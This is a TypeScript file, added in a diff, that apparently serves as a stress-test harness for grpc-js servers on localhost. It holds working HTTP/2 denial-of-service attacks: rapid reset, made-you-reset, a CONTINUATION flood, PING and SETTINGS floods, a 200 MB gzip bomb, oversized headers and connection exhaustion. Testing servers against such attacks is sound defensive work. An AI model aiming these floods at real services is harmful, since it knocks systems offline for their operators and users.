@@ -1,0 +1,138 @@
+import { connect, type Socket } from 'node:net';
+import { setTimeout as sleep } from 'node:timers/promises';
+import { gzipSync } from 'node:zlib';
+import { callHeaders, FLAG, frame, PREFACE, SETTINGS, TYPE, uint32 } from './frames.ts';
+
+/** Attacks one port and resolves to how many blows it struck. */
+export type Attack = (port: number) => Promise<number>;
+
+const HELLO = Buffer.concat([PREFACE, SETTINGS]);
+const OPEN = FLAG.endHeaders;
+const DONE = FLAG.endHeaders | FLAG.endStream;
+const EMPTY_MESSAGE = Buffer.alloc(5);
+
+// biome-ignore format: a table reads best with an attack a line.
+/** The table of attacks that a bare grpc-js server does not stand. */
+export const ATTACKS: Readonly<Record<string, Attack>> = {
+  '2,000 malformed connections': manyConnections(2000, () => [HELLO, frame(TYPE.headers, DONE, 1, Buffer.alloc(40, 0xff))]),
+  '1,000 idle connections': manyConnections(1000, () => []),
+  '1,000 prefaces and no more': manyConnections(1000, () => [PREFACE]),
+  '500 half header blocks': manyConnections(500, () => [HELLO, frame(TYPE.headers, FLAG.endStream, 1, callHeaders())]),
+  '200 connections with 10 half messages': manyConnections(200, () => [HELLO, ...odd(10).flatMap(halfCall)]),
+  'rapid reset': oneConnection(20_000, (n) => [frame(TYPE.headers, DONE, n, callHeaders()), reset(n)]),
+  'rapid reset with messages': oneConnection(20_000, (n) => [...wholeCall(n), reset(n)]),
+  'rapid reset with messages over 10 connections': tenTimes(oneConnection(5000, (n) => [...wholeCall(n), reset(n)])),
+  'made-you-reset': oneConnection(5000, (n) => [...halfCall(n), frame(TYPE.windowUpdate, 0, n, uint32(0))]),
+  'a flood of CONTINUATION': oneConnection(4000, (n) => [n === 1 ? frame(TYPE.headers, 0, 1, callHeaders()) : frame(TYPE.continuation, 0, 1, Buffer.alloc(16_384))]),
+  '100,000 PINGs': oneConnection(100_000, () => [frame(TYPE.ping, 0, 0, Buffer.alloc(8))]),
+  '50,000 SETTINGS': oneConnection(50_000, () => [SETTINGS]),
+  '100,000 empty DATA frames': oneConnection(100_000, (n) => [n === 1 ? frame(TYPE.headers, OPEN, 1, callHeaders()) : frame(TYPE.data, 0, 1)]),
+  'a gzip bomb of 200 MB': gzipBomb,
+  'headers of 200 kB': oneConnection(50, (n) => [...bigHeaders(n)]),
+  'deadlines past all reason': oneConnection(2000, (n) => [frame(TYPE.headers, OPEN, n, callHeaders({ 'grpc-timeout': '597H' })), frame(TYPE.data, FLAG.endStream, n, EMPTY_MESSAGE)]),
+};
+
+function odd(count: number): number[] {
+  return Array.from({ length: count }, (_, n) => 2 * n + 1);
+}
+
+function reset(stream: number): Buffer {
+  return frame(TYPE.rstStream, 0, stream, uint32(8));
+}
+
+function halfCall(stream: number): Buffer[] {
+  const half = Buffer.from([0, 0, 1, 0, 0, 1, 2, 3]);
+  return [frame(TYPE.headers, OPEN, stream, callHeaders()), frame(TYPE.data, 0, stream, half)];
+}
+
+function wholeCall(stream: number): Buffer[] {
+  return [
+    frame(TYPE.headers, OPEN, stream, callHeaders()),
+    frame(TYPE.data, FLAG.endStream, stream, EMPTY_MESSAGE),
+  ];
+}
+
+function bigHeaders(stream: number): Buffer[] {
+  const block = callHeaders({ 'x-big': 'a'.repeat(200_000) });
+  const parts: Buffer[] = [];
+  for (let at = 0; at < block.length; at += 16_384) {
+    const part = block.subarray(at, at + 16_384);
+    const last = at + 16_384 >= block.length ? FLAG.endHeaders : 0;
+    const type = at === 0 ? TYPE.headers : TYPE.continuation;
+    parts.push(frame(type, last | (at === 0 ? FLAG.endStream : 0), stream, part));
+  }
+  return parts;
+}
+
+async function gzipBomb(port: number): Promise<number> {
+  const bomb = gzipSync(Buffer.alloc(200_000_000));
+  const head = Buffer.alloc(5);
+  head.writeUInt8(1, 0);
+  head.writeUInt32BE(bomb.length, 1);
+  const message = Buffer.concat([head, bomb]);
+  const frames = [frame(TYPE.headers, OPEN, 1, callHeaders({ 'grpc-encoding': 'gzip' }))];
+  for (let at = 0; at < message.length; at += 16_384) {
+    const part = message.subarray(at, at + 16_384);
+    frames.push(frame(TYPE.data, at + 16_384 >= message.length ? FLAG.endStream : 0, 1, part));
+  }
+  return manyConnections(1, () => [HELLO, ...frames])(port);
+}
+
+/** Connections that say something and then hold on for three seconds. */
+function manyConnections(count: number, say: () => Buffer[]): Attack {
+  return async (port) => {
+    const words = Buffer.concat(say());
+    const sockets: Socket[] = [];
+    for (let n = 0; n < count; n += 1) {
+      const socket = dial(port);
+      if (words.length > 0) socket.write(words);
+      sockets.push(socket);
+      if (n % 50 === 49) await sleep(5);
+    }
+    await sleep(3000);
+    for (const socket of sockets) socket.destroy();
+    return count;
+  };
+}
+
+/** One connection that sends until it is done or cut off. `n` counts 1, 3, 5 … as stream ids do. */
+function oneConnection(count: number, say: (n: number) => Buffer[]): Attack {
+  return async (port) => {
+    const socket = dial(port);
+    socket.write(HELLO);
+    let struck = 0;
+    while (struck < count && !socket.destroyed) {
+      const burst: Buffer[] = [];
+      for (let n = 0; n < 100 && struck < count; n += 1) {
+        burst.push(...say(2 * struck + 1));
+        struck += 1;
+      }
+      const more = socket.write(Buffer.concat(burst));
+      await (more ? sleep(0) : Promise.race([drained(socket), sleep(1000)]));
+    }
+    await sleep(500);
+    socket.destroy();
+    return struck;
+  };
+}
+
+function tenTimes(attack: Attack): Attack {
+  return async (port) => {
+    const struck = await Promise.all(Array.from({ length: 10 }, () => attack(port)));
+    return struck.reduce((sum, one) => sum + one, 0);
+  };
+}
+
+function dial(port: number): Socket {
+  const socket = connect({ port, host: '127.0.0.1' });
+  socket.on('error', () => {});
+  socket.resume();
+  return socket;
+}
+
+function drained(socket: Socket): Promise<void> {
+  return new Promise((resolve) => {
+    socket.once('drain', () => resolve());
+    socket.once('close', () => resolve());
+  });
+}
